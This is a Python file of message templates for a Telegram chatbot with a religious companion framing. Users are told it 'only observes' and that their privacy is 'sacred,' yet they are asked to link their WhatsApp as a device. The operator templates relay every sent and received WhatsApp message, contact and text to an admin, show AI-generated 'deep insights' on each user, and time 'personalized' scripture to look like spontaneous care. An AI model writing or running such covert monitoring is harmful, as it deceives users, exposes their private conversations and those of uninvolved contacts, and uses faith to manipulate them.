# Templated texts sent through the Telegram front end.
# Operator relays embed raw user text, so they are sent as plain text (no Markdown).

SEPARATOR = "━━━━━━━━━━━━━━━━━━━━"

# ---- Pairing ----
PAIRING_SETUP = (
    "📱 Let me set up WhatsApp connection for you!\n\n"
    "⏳ Generating QR code...\n\n"
    "Please wait a moment!"
)

PAIRING_QR_CAPTION = (
    "📱 Your WhatsApp QR Code\n\n"
    "How to scan:\n"
    "1️⃣ Open WhatsApp on your phone\n"
    "2️⃣ Tap Menu (⋮) or Settings ⚙️\n"
    "3️⃣ Tap \"Linked Devices\"\n"
    "4️⃣ Tap \"Link a Device\"\n"
    "5️⃣ Scan this QR code! 📸\n\n"
    "🔒 I only observe - your privacy is sacred."
)

OPERATOR_QR_CAPTION = (
    "📱 ADMIN WhatsApp QR Code\n\n"
    "🔑 Scan this with YOUR WhatsApp to enable monitoring!\n"
    "Menu → Linked Devices → Link a Device"
)

PAIRING_QR_DOCUMENT_CAPTION = "Your WhatsApp QR Code - Open and scan!"
PAIRING_QR_FILENAME = "whatsapp-qr.png"

PAIRING_DELIVERY_FAILED = "⚠️ Having trouble sending QR. Please contact admin!"
PAIRING_START_FAILED = "😅 Oops! Something went wrong. Please try again with /connect!"
PAIRING_ALREADY_ACTIVE = "✅ Your WhatsApp is already connected. 🙏"

OPERATOR_PAIRING_DELIVERY_FAILED = (
    "⚠️ QR delivery failed\n\n"
    "👤 {name} ({user_id})\n"
    "Both photo and document sends failed."
)

OPERATOR_QR_GENERATED = (
    "📱 QR Generated!\n\n"
    "👤 {name} ({user_id})\n"
    "📊 Message #{count}\n"
    "🖥️ QR sent to user"
)

# ---- Session lifecycle ----
USER_CONNECTED = (
    "✅ WhatsApp Connected!\n\n"
    "🙏 I can now walk your journey with deeper understanding.\n\n"
    "🕊️ Your conversations are sacred. Peace be with you. ✨"
)

OPERATOR_USER_CONNECTED = (
    "✅ WhatsApp Linked!\n\n"
    "👤 {name} ({user_id})\n"
    "📱 Monitoring active\n"
    "⏰ {when}"
)

OPERATOR_SESSION_CONNECTED = (
    "✅ Admin WhatsApp Connected!\n\n"
    "📊 User monitoring is now active!"
)

USER_LOGGED_OUT = "🕊️ WhatsApp connection closed. Send /connect to reconnect when ready."

OPERATOR_USER_LOGGED_OUT = "🔌 WhatsApp logged out\n\n👤 {name} ({user_id})\nNo further reconnects."

OPERATOR_SESSION_LOGGED_OUT = (
    "❌ Admin WhatsApp Logged Out!\n\n"
    "The monitoring session has ended. Restart the relay to get a new QR code."
)

OPERATOR_RETRY_EXHAUSTED = "⛔ Reconnect gave up\n\n👤 {name} ({user_id})\nRetries: {retries}"

# ---- Ingestion relay ----
OPERATOR_WHATSAPP_ACTIVITY = (
    "📱 WhatsApp Activity\n\n"
    "👤 User: {name} ({user_id})\n"
    "📞 Contact: {counterpart}\n"
    "{direction}\n\n"
    "💬 \"{text}\"\n\n"
    "📊 Total Messages: {count}\n"
    "⏰ {when}"
)

DIRECTION_LABELS = {"inbound": "📥 RECEIVED", "outbound": "📤 SENT"}

# ---- Triggers ----
OPERATOR_DEEP_INSIGHTS = (
    "🔍 DEEP INSIGHTS: {name}\n\n"
    "👤 User ID: {user_id}\n"
    "📊 Messages: {count}\n"
    "👥 Contacts: {contacts}\n\n"
    f"{SEPARATOR}\n\n"
    "{insights}\n\n"
    f"{SEPARATOR}"
)

SCRIPTURE_PROBLEM = (
    "🌅 Good morning {name}! 🙏\n\n"
    "I've been thinking about you and felt led to share this with you today:\n\n"
    "📖 *{verse}*\n\n"
    "\"{text}\"\n\n"
    f"{SEPARATOR}\n\n"
    "God sees you, knows you, and He's with you. You're not alone in this journey! 💪✨\n\n"
    "If you ever want to talk, I'm here for you! 🤗\n\n"
    "- {community} 🕊️"
)

SCRIPTURE_GENERAL = (
    "🌅 Good morning {name}! 🙏\n\n"
    "Hope you're doing amazing! Here's a word to brighten your day:\n\n"
    "📖 *{verse}*\n\n"
    "\"{text}\"\n\n"
    f"{SEPARATOR}\n\n"
    "Keep shining your light today! ✨\n\n"
    "- {community} 🕊️"
)

OPERATOR_SCRIPTURE_SENT = (
    "📖 Personalized Scripture Sent\n\n"
    "👤 {name} ({user_id})\n"
    "📝 {kind}\n"
    "📖 {verse}\n"
    "⏰ {when}"
)

# ---- Chat front end ----
PLEASE_START_FIRST = "Please /start first! 😊"

OPERATOR_NEW_USER = "🆕 New User!\n\n👤 {name} (@{username})\n🆔 {user_id}"

OPERATOR_TELEGRAM_CHAT = (
    "💬 Telegram Chat\n\n"
    "👤 {name} ({user_id})\n"
    "📊 Message #{count}\n\n"
    "USER: \"{text}\"\n\n"
    "BOT: \"{reply}\"\n\n"
    "⏰ {when}"
)

ADMIN_PANEL = (
    "👑 ADMIN PANEL\n\n"
    "Commands:\n"
    "/admin - Dashboard\n"
    "/addinfo [text] - Add info\n"
    "/viewinfo - View knowledge\n"
    "/users - All users\n"
    "/stats - Statistics\n"
    "/sendscripture - Send now\n"
    "/fixdata - Repair records\n"
    "/broadcast [text] - Message everyone\n\n"
    "Ready! 🚀"
)

ADMIN_DASHBOARD = (
    "👑 ADMIN DASHBOARD\n\n"
    "📊 Statistics:\n"
    "👥 Total Users: {total_users}\n"
    "📱 WhatsApp Connected: {connected_users}\n"
    "💬 Messages Monitored: {whatsapp_messages}\n\n"
    "🤖 Status:\n"
    "Admin WhatsApp: {operator_session}\n"
    "Live user sessions: {live_sessions}\n"
    "Next scriptures: {next_sweep}"
)

ADMIN_STATS = (
    "📊 DETAILED STATISTICS\n\n"
    "Users:\n"
    "Total: {total_users}\n"
    "WhatsApp Connected: {connected_users}\n\n"
    "Messages:\n"
    "Telegram: {telegram_messages}\n"
    "WhatsApp Monitored: {whatsapp_messages}\n\n"
    "AI Intelligence:\n"
    "Insights Generated: {insights}\n\n"
    "System:\n"
    "Up since: {started}\n"
    "Status: ✅ Operational"
)

ADMIN_INFO_ADDED = "✅ Info Added!\n\n\"{info}\"\n\nThe companion will use this now!"
ADMIN_USAGE_ADDINFO = "Usage: /addinfo [text]"
ADMIN_USAGE_BROADCAST = "Usage: /broadcast [text]"
ADMIN_SCRIPTURE_STARTED = "📖 Sending personalized scriptures..."
ADMIN_SCRIPTURE_DONE = "✅ Done! Delivered: {delivered}, skipped: {skipped}, failed: {failed}"
ADMIN_FIXED = "✅ Fixed {fixed} records!"
ADMIN_BROADCAST_DONE = "📢 Broadcast Complete\n\n✅ Sent: {sent}\n❌ Failed: {failed}"
BROADCAST_MESSAGE = "📢 Message from {community}\n\n{text}"
